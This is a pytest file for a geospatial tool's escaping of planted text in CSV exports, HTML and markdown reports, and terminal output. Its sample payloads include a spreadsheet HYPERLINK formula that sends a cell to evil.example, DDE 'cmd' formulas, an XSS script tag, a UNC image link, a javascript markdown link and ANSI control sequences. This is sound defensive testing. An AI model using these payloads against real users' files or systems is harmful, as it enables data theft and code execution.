"""Texts that somebody planted in names and values come out as texts: in a table, on a page, in a terminal."""

import csv
import json

import numpy as np
import pyogrio
import pytest
import shapely

from engine.cli.main import main
from engine.comparison.bootstrap import Figure
from engine.comparison.figures import Panel, Picture
from engine.comparison.report import Report, write_report
from engine.escaping import csv_cell, terminal_text

PLANTED = (
    "=HYPERLINK(\"http://evil.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1",
    "\r=1+1", "\uff1d1+1", "<script>alert(1)</script>", "<img src='\\\\evil.example\\a.png'>", "[% env('HOME') %]",
    "a|b](javascript:alert(1))",
)  # fmt: skip
FORMULAS = PLANTED[:7]


@pytest.mark.parametrize("text", ["-3.5", "+4", "-1e-3", "landslide", "", "2024-05-01", "a=b", "1-2"])
def test_numbers_and_plain_texts_stay_what_they_are_in_a_csv(text):
    assert csv_cell(text) == text
    assert csv_cell(-3.5) == -3.5


@pytest.mark.parametrize("text", ["-inf", "=1", "- 1", "-1 ", "+", "-"])
def test_what_a_spreadsheet_could_take_for_a_formula_gets_an_apostrophe(text):
    assert csv_cell(text) == f"'{text}"


def planted_layer(path):
    """Write polygons, each with something planted in its name."""
    boxes = shapely.to_wkb(np.array([shapely.box(n, 0, n + 1, 1) for n in range(len(PLANTED))], object))
    columns = [np.array(PLANTED, object), np.full(len(PLANTED), -3.5), np.array(["-3.5"] * len(PLANTED), object)]
    pyogrio.raw.write(
        path, boxes, columns, ["=name", "depth", "words"], driver="GPKG", crs="EPSG:32648", geometry_type="Polygon"
    )
    return path


def shown(planted):
    """Return how a cell of a CSV shows a planted text."""
    return (f"'{planted}" if planted in FORMULAS else planted).replace("\r", "\n")


def rows_of(path):
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [[cell.replace("\r", "\n") for cell in row] for row in csv.reader(file)]


@pytest.mark.parametrize("kind", ["csv", "csv-wkt"])
def test_an_exported_table_holds_no_formula(tmp_path, kind):
    source = planted_layer(tmp_path / "a.gpkg")
    assert main(["export", str(source), "--format", kind, "--out", str(tmp_path / "a.csv")]) == 0
    head, *rows = rows_of(tmp_path / "a.csv")
    place = head.index("'=name")
    assert head[place : place + 3] == ["'=name", "depth", "words"]
    assert [row[place + 1 : place + 3] for row in rows] == [["-3.5", "-3.5"]] * len(PLANTED)
    assert [row[place] for row in rows] == [shown(planted) for planted in PLANTED]
    assert not [cell for row in (head, *rows) for cell in row if cell.startswith(("=", "+", "@", "\t", "\r", "-2+"))]


def test_statistics_by_a_planted_attribute_and_by_planted_zones_hold_no_formula(tmp_path, capsys):
    source = planted_layer(tmp_path / "a.gpkg")
    words = ["statistics", str(source), "--by", "=name", "--zones", str(source), "--zone-field", "=name"]
    assert main([*words, "--out", str(tmp_path / "a.csv")]) == 0
    assert "\x1b" not in capsys.readouterr().out
    rows = rows_of(tmp_path / "a.csv")
    names = [row[1] for row in rows if row[0] == "zone"]
    assert sorted(names) == sorted(shown(planted) for planted in PLANTED)
    assert {shown(planted) for planted in PLANTED} <= {row[1] for row in rows if row[0] == "'=name"}
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "\t", "\r", "-2+"))]


@pytest.mark.parametrize("command", ["compare", "statistics"])
def test_what_a_run_says_of_itself_reaches_a_terminal_without_control_characters(
    tmp_path, make_raster, tiny_model, capsys, command
):
    scene = make_raster("scene.tif", height=80, width=80)
    words = ["--model", str(tiny_model), "--tile", "64", "--overlap", "16", "--device", "cpu"]
    assert main(["segment", str(scene), "--out", str(tmp_path / "run"), *words]) == 0
    path = tmp_path / "run" / "run.json"
    run = json.loads(path.read_text(encoding="utf-8"))
    run["settings"]["image_date"], run["scene"]["date"] = "2024-01-01", "\x1b[2J2024"
    run["model"]["name"] = run["versions"]["plugin"] = "\x1b[31mevil\x07\u202e"
    path.write_text(json.dumps(run), encoding="utf-8")
    capsys.readouterr()
    run_folder = str(tmp_path / "run")
    more = [run_folder, "--out", str(tmp_path / "a.gpkg")] if command == "compare" else []
    main([command, run_folder, *more])
    said = "".join(capsys.readouterr())
    assert not {"\x1b", "\x07", "\u202e"} & set(said)


def test_a_report_shows_planted_names_as_they_stand(tmp_path):
    table = {name: {"mean IoU": Figure(-0.5, -0.6, -0.4), "found": -3} for name in ("Constant disc", *PLANTED)}
    panel = Panel(PLANTED[7], (Picture(PLANTED[8], np.zeros((2, 2, 3), np.uint8)),))
    write_report(Report(PLANTED[7], table, {}, [panel]), tmp_path)
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "<script" not in page
    assert page.count("<img") == 1
    assert 'src="panels/01-01.png"' in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    markdown = (tmp_path / "table.md").read_text(encoding="utf-8")
    assert "<" not in markdown
    assert r"b\](javascript" in markdown
    rows = markdown.splitlines()[5:]
    assert {row.replace("\\|", "").count("|") for row in rows} == {5}, "a planted bar makes a cell of its own"
    with (tmp_path / "table.csv").open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert {"-0.5", "-3"} <= set(cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r", "-2+"))]


def test_a_terminal_is_not_rewritten():
    assert terminal_text("a\x1b[2Jb\x07\tc\nd\u202ee") == "a\ufffd[2Jb\ufffd\tc\nd\ufffde"


def test_a_card_of_somebodys_is_printed_without_control_characters(tiny_model, tmp_path, capsys):
    from engine.model_file.bundle import open_model, write_model  # noqa: PLC0415

    model = open_model(tiny_model)
    card = {**model.card, "training_data": "Evil\x1b[31mred\x07"}
    path = write_model(tmp_path / "a.lsmodel", card, {role: model.network(role) for role in card["networks"]})
    assert main(["model", "show", str(path)]) == 0
    shown = capsys.readouterr().out
    assert "\x1b" not in shown
    assert "\x07" not in shown
    assert "Evil" in shown
